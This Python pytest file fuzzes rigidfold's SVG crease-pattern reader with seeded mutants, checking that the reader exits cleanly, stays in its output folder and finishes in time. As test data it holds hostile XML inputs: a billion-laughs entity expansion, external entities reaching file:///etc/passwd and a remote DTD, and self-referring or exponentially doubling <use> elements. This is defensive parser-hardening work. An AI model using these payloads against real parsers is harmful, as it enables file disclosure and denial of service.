"""Fuzz test of the SVG crease-pattern reader (issue 30): seeded mutants of Origami
Simulator's drawings and of a drawing of every shape rigidfold reads, run through
``rigidfold optimize --pattern FILE.svg`` in this process (the small drawings, whose solve
takes a few hundredths of a second) or through the reader of the command line,
:func:`rigidfold.generate.specs.parse_pattern` (the larger ones). Every case must end with exit
code 0, 1 or 2 (2: one line ``rigidfold: error: ...`` on stderr; the reader: a result or a
one-line ValueError), raise nothing else (no traceback, no warning: warnings are errors in
the test suite), write nothing outside its ``--out`` folder, and end within
:data:`SECONDS`.

The mutations are those of a damaged or hostile file: cut short, a byte changed, bytes not
UTF-8, numbers made NaN, infinite, huge, tiny or negative, attributes deleted, elements of
another kind, strokes of unknown colours and opacities, transforms and headers that cannot
be computed with, deep nesting, elements drawn twice, degenerate pieces, ``<use>`` elements
that refer to themselves or expand exponentially, XML entities. A mutant is at most twice
its base plus :data:`EXTRA` bytes (:func:`check_size`). The mutator is this file's own
(seeded ``random.Random``): a failure names the base, the mutant's number and what was done,
and reruns the same.
"""

from __future__ import annotations

import random
import re
import shutil
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from conftest import main_code
from fuzzing import byte_damage
from test_fuzz_fold import snapshot

DATA = Path(__file__).parent / "data" / "origami_simulator"
SECONDS = 15.0
"""Longest a case may take (a few hundredths of a second each here; a busy machine)."""
EXTRA = 40_000
"""Bytes a mutant may add to twice its base (5,000 nested groups)."""

SHAPES = """<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="3000mm" height="3000mm" viewBox="0 0 100 100">
<style>.v { stroke: #0000ff; }</style>
<defs><line id="half" x1="0" y1="0" x2="50" y2="50" stroke="#f00" stroke-opacity="0.5"/></defs>
<rect x="0" y="0" width="100" height="100" fill="none" stroke="black"/>
<g transform="translate(0,0)">
  <line x1="0" y1="50" x2="100" y2="50" class="v"/>
  <polyline points="50,0 50,50" fill="none" stroke="rgb(255,0,0)"/>
  <polygon points="50,50 50,100 50,50" fill="none" stroke="#ff00ff"/>
</g>
<use xlink:href="#half"/>
<path d="M50,50 L100,100" stroke="#00f" stroke-opacity="0.9" fill="none"/>
<path d="M0,100 l50,-50" style="stroke:#ffff00;fill:none"/>
<text x="5" y="5">a note</text>
</svg>
"""
"""A drawing of every element rigidfold reads: a rect boundary, a styled line, a polyline, a
polygon drawn back over itself, a ``<use>`` of a ``<defs>`` line, paths with opacity, a style
attribute, a class, a transform and text; its 8 triangles fold."""

NUMBERS = ["nan", "NaN", "inf", "-inf", "1e308", "-1e308", "1e400", "1e-300", "-1e-320", "0",
           "-0", "", "-", "1e99999999", "99999999999999999999999999", "1.2.3", "0x10", "+-1",
           "-5", "3e5", "1e-9"]  # fmt: skip
COLOURS = ["#00ff00", "green", "#123", "rgb(300,-1,nan)", "none", "url(#nowhere)", "currentColor",
           "hsl(0,100%,50%)", "#ff000", "transparent", "#808080", "rgba(255,0,0,0)", "&#10;red",
           "white"]  # fmt: skip
OPACITIES = ["nan", "-1", "2", "1e308", "x", "", "0", "50%", "inf"]
TRANSFORMS = ["matrix(nan,0,0,1,0,0)", "scale(0)", "scale(1e300)", "rotate(1e308)", "skewX(90)",
              "translate(1e308)", "matrix(1,2,3)", "scale()", "rotate(45 10 10)", "scale(-1,1)",
              "matrix(0,0,0,0,0,0)", "scale(1e-300)", "translate(1e5,1e5)", "rotate(inf)",
              "skewY(89.9999999)", "scale(1,0)", "matrix(1e200,0,0,1e200,0,0)", "x(1)"]  # fmt: skip
HEADERS = {
    "width": ["0", "-5mm", "nanmm", "1e400mm", "1e-300mm", "10furlongs", "", "100%", "1e308in",
              "3e-5cm", "infpt", "200", "1,5mm"],
    "height": ["0", "-1", "nan", "1e400", "", "7mm"],
    "viewBox": ["0 0 0 0", "0 0 -1 1", "a b c d", "0 0 1e308 1e308", "0,0,1", "0 0 1e-300 1e-300",
                "nan 0 1 1", "0 0 1 1e308", "-1e308 -1e308 1 1", "", "0 0 100 100 100"],
}  # fmt: skip
TAGS = ["circle", "ellipse", "text", "g", "line", "polygon", "image", "use", "foo", "svg", "path",
        "rect", "polyline", "a", "defs", "symbol"]  # fmt: skip
SHAPE_BODIES = [
    'd=""', 'd="M0,0"', 'd="M0,0 L0,0"', 'd="M0,0z"', 'd="M0,0 A10,10 0 0 1 20,20"',
    'd="M0,0 L1e308,1e308"', 'd="M nan,0 L1,1"', 'd="Q"', 'd="M0,0 L50,50 L0,0 L50,50 L0,0"',
    'points=""', 'points="1"', 'points="0,0 1e400,1"', 'x1="5" y1="5" x2="5" y2="5"',
    'width="0" height="10"', 'width="-10" height="10"', 'r="10" cx="50" cy="50"',
    'x1="0" y1="0" x2="100" y2="100"', 'x1="-50" y1="50" x2="150" y2="50"',
]  # fmt: skip
USES = [
    '<g id="loop"><use xlink:href="#loop"/></g>',
    '<g id="p"><use xlink:href="#q"/></g><g id="q"><use href="#p"/></g>',
    '<use xlink:href="#nowhere"/>',
    '<use xlink:href=""/>',
    '<use xlink:href="http://example.invalid/x.svg#a"/>',
    '<use xlink:href="#half" transform="scale(nan)"/>',
    '<use href="#half" x="1e308"/>',
]
ENTITIES = [
    '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
    '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">'
    '<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">]>',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://example.invalid/evil.dtd"> %p;]>',
    '<!DOCTYPE svg [<!ENTITY h "&#10;&#27;[31m">]>',
]
_NUMBER = re.compile(r"-?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?")
_ELEMENT = re.compile(r"<(path|line|polyline|polygon|rect|use|g|text|style)\b([^>]*?)(/?)>")
_ATTRIBUTE = re.compile(r'\s([\w:-]+)="[^"]*"')


# ----------------------------------------------------------------------------- the mutator
def body_start(text: str) -> int:
    """Where the drawing's content begins: after the root ``<svg ...>`` tag."""
    return text.index(">", text.index("<svg")) + 1


def root_end(text: str) -> int:
    """Where the root ``<svg ...>`` tag's attributes end."""
    return text.index(">", text.index("<svg"))


def elements(text: str) -> list[re.Match]:
    """The drawn (and grouping) elements' opening tags in the drawing's content."""
    return list(_ELEMENT.finditer(text, body_start(text)))


def bad_number(text, rng):
    """A number of the content set to NaN, inf, huge, tiny, negative, junk."""
    found = list(_NUMBER.finditer(text, body_start(text)))
    if not found:
        return text, "no number"
    match, value = rng.choice(found), rng.choice(NUMBERS)
    return text[: match.start()] + value + text[match.end() :], f"{match[0]!r} -> {value!r}"


def delete_attribute(text, rng):
    tags = [m for m in elements(text) if _ATTRIBUTE.search(m[2])]
    if not tags:
        return text, "no attribute"
    tag = rng.choice(tags)
    attribute = rng.choice(list(_ATTRIBUTE.finditer(tag[2])))
    start = tag.start(2) + attribute.start()
    return text[:start] + text[tag.start(2) + attribute.end() :], f"<{tag[1]}> {attribute[1]} del"


def set_attribute(text, rng):
    """A stroke colour, stroke opacity or transform of one element set to junk."""
    tags = elements(text)
    if not tags:
        return text, "no element"
    tag = rng.choice(tags)
    name, values = rng.choice(
        [
            ("stroke", COLOURS),
            ("stroke-opacity", OPACITIES),
            ("transform", TRANSFORMS),
            ("opacity", OPACITIES),
            ("style", ["stroke:#0f0", "stroke:url(#x)", "display:none"]),
            ("id", ["&#10;x&#27;", "half", "a b"]),
        ]
    )
    value = rng.choice(values)
    attributes = re.sub(rf'\s{name}="[^"]*"', "", tag[2]) + f' {name}="{value}"'
    new = f"<{tag[1]}{attributes}{tag[3]}>"
    return text[: tag.start()] + new + text[tag.end() :], f'<{tag[1]}> {name}="{value}"'


def header(text, rng):
    """The root's width, height or viewBox set to junk."""
    name = rng.choice(sorted(HEADERS))
    value = rng.choice(HEADERS[name])
    start, end = text.index("<svg"), root_end(text)
    tag = re.sub(rf'\s{name}="[^"]*"', "", text[start:end]) + f' {name}="{value}"'
    return text[:start] + tag + text[end:], f'<svg {name}="{value}">'


def rename(text, rng):
    """An element of another kind: a circle, text, an unknown tag, an inner <svg>, ..."""
    tags = [m for m in elements(text) if m[3] == "/"]  # self-closing: the XML stays whole
    if not tags:
        return text, "no element"
    tag, new = rng.choice(tags), rng.choice(TAGS)
    return text[: tag.start()] + f"<{new}{tag[2]}/>" + text[tag.end() :], f"<{tag[1]}> -> <{new}>"


def reshape(text, rng):
    """One element's geometry replaced by a degenerate, curved or far one."""
    tags = [m for m in elements(text) if m[3] == "/" and m[1] != "use"]
    if not tags:
        return text, "no element"
    tag, body = rng.choice(tags), rng.choice(SHAPE_BODIES)
    kept = re.sub(r'\s(d|points|x1|y1|x2|y2|width|height|x|y|r|cx|cy)="[^"]*"', "", tag[2])
    new = f"<{tag[1]} {body}{kept}/>"
    return text[: tag.start()] + new + text[tag.end() :], f"<{tag[1]} {body}>"


def duplicate(text, rng):
    """An element drawn again: as it is, in another colour, shifted a little, or its path
    drawn back and forth many times."""
    tags = [m for m in elements(text) if m[3] == "/"]
    if not tags:
        return text, "no element"
    tag = rng.choice(tags)
    how = rng.choice(["same", "colour", "shifted", "repeated", "many"])
    if len(tag[0]) > 300 and how in ("repeated", "many"):  # within the size bound
        how = "same"
    copy = tag[0]
    if how == "colour":
        copy = re.sub(r'stroke="[^"]*"', f'stroke="{rng.choice(["#f00", "#00f", "#000"])}"', copy)
    elif how == "shifted":
        copy = copy.replace(tag[1], f'{tag[1]} transform="translate({rng.choice([0.01, 1])},0)"', 1)
    elif how == "repeated" and 'd="' in copy:
        d = re.search(r'd="([^"]*)"', copy)
        assert d is not None
        copy = copy.replace(d[0], f'd="{d[1]} {d[1][1:] * 50}"')
    elif how == "many":
        copy = copy * 100
    return text[: tag.end()] + copy + text[tag.end() :], f"<{tag[1]}> drawn again ({how})"


def nest(text, rng):
    """The content inside many groups (within or beyond Settings.limits.max_svg_depth)."""
    depth = rng.choice([10, 98, 101, 5000])
    start, end = body_start(text), text.rindex("</svg>")
    return text[:start] + "<g>" * depth + text[start:end] + "</g>" * depth + text[end:], (
        f"nested in {depth} groups"
    )


def use(text, rng):
    """A ``<use>`` that refers to itself, to nothing, to the web, or groups that expand
    exponentially (each using the one before twice)."""
    if rng.random() < 0.3:
        levels = rng.choice([8, 16, 24])
        parts = ['<g id="u0"><line x1="0" y1="50" x2="100" y2="50" stroke="#f00"/></g>']
        parts += [
            f'<g id="u{k}"><use xlink:href="#u{k - 1}"/><use xlink:href="#u{k - 1}"/></g>'
            for k in range(1, levels + 1)
        ]
        added, what = "".join(parts), f"<use> doubling {levels} times"
    else:
        added = rng.choice(USES)
        what = added[:40]
    end = text.rindex("</svg>")
    return text[:end] + added + text[end:], what


def entity(text, rng):
    """XML entities: expanding a billion times, an external file or URL, control bytes."""
    declaration = rng.choice(ENTITIES)
    name = re.search(r"<!ENTITY %? ?(\w+)", declaration)
    assert name is not None
    text = re.sub(r"<!DOCTYPE[^>]*>", "", text)
    start = text.index("<svg")
    used = f"<text>&{name[1]};</text>" if "%" not in declaration else ""
    end = text.rindex("</svg>")
    return text[:start] + declaration + text[start:end] + used + text[end:], declaration[:30]


MUTATIONS: list[Callable] = [
    bad_number, bad_number, bad_number, delete_attribute, set_attribute, set_attribute, header,
    rename, reshape, reshape, duplicate, nest, use, entity,
]  # fmt: skip


def text_damage(text: str, rng: random.Random) -> tuple[bytes, str]:
    """Damage to the file's bytes: cut short, a byte changed, not UTF-8, a BOM, empty."""
    return byte_damage(text.encode(), rng, ("cut", "byte", "latin-1", "bom", "empty", "nul"))


def mutant(text: str, rng: random.Random) -> tuple[bytes, list[str]]:
    """Bytes of one mutant of an SVG file's text, and what was done to it."""
    if rng.random() < 0.15:
        data, what = text_damage(text, rng)
        return data, [what]
    done = []
    for _ in range(rng.choice([1, 1, 2, 3])):
        text, what = rng.choice(MUTATIONS)(text, rng)
        done.append(what)
    return text.encode(), done


def check_size(data: bytes, base: str) -> None:
    """The bound on every case's input: a mutant is at most twice its base plus EXTRA."""
    assert len(data) <= 2 * len(base.encode()) + EXTRA


# ------------------------------------------------------------------------------ the runner
def one_line_error(stderr: str, label: str) -> None:
    lines = stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("rigidfold: error: "), f"{label}: {stderr!r}"


def run_command(argv: list[str], label: str, root: Path, inputs: list[Path], capsys) -> int:
    """``rigidfold ARGV`` in this process: exit code 0, 1 or 2 (2 with one line on stderr,
    nothing on stderr otherwise), no exception, within SECONDS, nothing written but under
    ``--out``, the inputs unchanged."""
    out = Path(argv[argv.index("--out") + 1])
    before = snapshot(root)
    saved = [p.read_bytes() for p in inputs]
    start = time.perf_counter()
    try:
        code = main_code(argv)
    except BaseException as exc:  # any escape is a failure, named with its case
        pytest.fail(f"{label}: {type(exc).__name__}: {exc}")
    seconds = time.perf_counter() - start
    stdout, stderr = capsys.readouterr()
    assert seconds < SECONDS, f"{label}: {seconds:.1f} s"
    assert code in (0, 1, 2), f"{label}: exit code {code}"
    assert "Traceback" not in stdout + stderr, label
    notes = ("rigidfold: warning: ", "rigidfold: note: ")
    warnings = [line for line in stderr.splitlines() if line.startswith(notes)]
    stderr = "".join(f"{line}\n" for line in stderr.splitlines() if line not in warnings)
    if code == 2:
        one_line_error(stderr, label)
    else:  # nothing on stderr but rigidfold's one-line warnings and notes (sizes in mm)
        assert not stderr.strip(), f"{label}: {stderr!r}"
    after = snapshot(root)
    changed = {p for p in before.keys() | after.keys() if before.get(p) != after.get(p)}
    outside = [p for p in changed if not (root / p).is_relative_to(out)]
    assert not outside, f"{label}: wrote {sorted(outside)}"
    assert [p.read_bytes() for p in inputs] == saved, f"{label}: an input changed"
    return code


def read_directly(path: Path, label: str) -> int:
    """The command line's reader of ``--pattern FILE.svg`` (parse_pattern, as make_case
    calls it): 0 with a pattern, 2 for a one-line ValueError; within SECONDS."""
    from rigidfold.generate.specs import parse_pattern

    start = time.perf_counter()
    try:
        pattern = parse_pattern(str(path))
        code = 0
    except ValueError as exc:
        message = str(exc)
        assert message and "\n" not in message and "\r" not in message, f"{label}: {message!r}"
        code = 2
    except BaseException as exc:  # any escape is a failure, named with its case
        pytest.fail(f"{label}: {type(exc).__name__}: {exc}")
    seconds = time.perf_counter() - start
    assert seconds < SECONDS, f"{label}: {seconds:.1f} s"
    if code == 0:
        assert len(pattern.faces) >= 1
    return code


BASES = {
    # name: (mutants, through the command line)
    "shapes": (40, True),
    "simpleVertex": (30, True),
    "singlesquaretwist": (30, True),
    "miura-ori": (20, False),
    "hypar": (15, False),
    "huffmanWaterbomb": (15, False),
}


def base_text(name: str) -> str:
    return SHAPES if name == "shapes" else (DATA / f"{name}.svg").read_text()


def test_the_shapes_base_is_read_and_folds(tmp_path, capsys):
    """The synthetic base reads as it is: every element kind gives its lines."""
    path = tmp_path / "shapes.svg"
    path.write_text(SHAPES)
    from rigidfold.io.svg_read import read_svg

    drawing = read_svg(path)
    assert sorted(set(drawing.assignment)) == ["B", "F", "M", "U", "V"]
    argv = ["optimize", "--surface", "dome", "--pattern", str(path), "--out", str(tmp_path / "o")]
    assert main_code(argv) == 0, capsys.readouterr().err


@pytest.mark.parametrize("name", sorted(BASES))
def test_mutated_svg_files_end_in_an_exit_code(name, tmp_path, monkeypatch, capsys):
    base = base_text(name)
    count, through_cli = BASES[name]
    rng = random.Random(f"fuzz-svg-{name}")
    work = tmp_path / "cwd"  # stray relative writes would land here
    work.mkdir()
    monkeypatch.chdir(work)
    codes = []
    for k in range(count):
        data, done = mutant(base, rng)
        check_size(data, base)
        case = tmp_path / f"case{k}" / f"{name}.svg"
        case.parent.mkdir()
        case.write_bytes(data)
        label = f"{name} mutant {k} ({'; '.join(done)})"
        if through_cli:
            out = tmp_path / f"out{k}"
            argv = ["optimize", "--surface", "dome", "--pattern", str(case), "--out", str(out)]
            codes.append(run_command(argv, label, tmp_path, [case], capsys))
            shutil.rmtree(out, ignore_errors=True)
        else:
            codes.append(read_directly(case, label))
        shutil.rmtree(case.parent)
    # the mutants reach past the first checks: some are still read, most are refused
    assert codes.count(2) >= count // 4 and codes.count(0) >= 1, codes


# ------------------------------------------------------------- the defects the mutants found
HEAD = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'width="100" height="100" viewBox="0 0 100 100">'
        '<rect x="0" y="0" width="100" height="100" fill="none" stroke="#000"/>')  # fmt: skip
DOUBLING = '<g id="u0"><line x1="0" y1="50" x2="100" y2="50" stroke="#f00"/></g>' + "".join(
    f'<g id="u{k}"><use xlink:href="#u{k - 1}"/><use xlink:href="#u{k - 1}"/></g>'
    for k in range(1, 17)
)


@pytest.mark.parametrize(
    "body, message",
    [
        (DOUBLING, "its elements are larger than 8000000 characters of attributes and 100 per "
                   "element, each <use> counted as what it refers to "
                   "(Settings.limits.max_svg_size)"),
        ('<g id="a"><use href="#b"/></g><g id="b"><use xlink:href="#a"/></g>',
         'its <use> elements refer to each other in a loop (through id="'),
        ('<path stroke="#f00"/>', "<path> has no d: path data is"),
        ('<path d="M0,50 h50 hnan" stroke="#f00"/>', '<path> has d="M0,50 h50 hnan": path data'),
        ('<path d="M0,50 h" stroke="#f00"/>', '<path> has d="M0,50 h": path data'),
        ('<path d="h50" stroke="#f00"/>', '<path> has d="h50": path data'),
    ],
)  # fmt: skip
def test_defects_found_by_the_mutants(tmp_path, capsys, body, message):
    """A 2 kB drawing whose groups each use the one before twice took 49 s and 1.3 GB; a
    <path> without d or with malformed path data was svgelements' TypeError traceback."""
    path = tmp_path / "found.svg"
    path.write_text(HEAD + body + "</svg>")
    argv = ["optimize", "--surface", "dome", "--pattern", str(path), "--out", str(tmp_path / "o")]
    start = time.perf_counter()
    assert main_code(argv) == 2
    assert time.perf_counter() - start < SECONDS
    err = capsys.readouterr().err
    one_line_error(err, body)
    assert f"{path}: {message}" in err
    assert not (tmp_path / "o").exists()
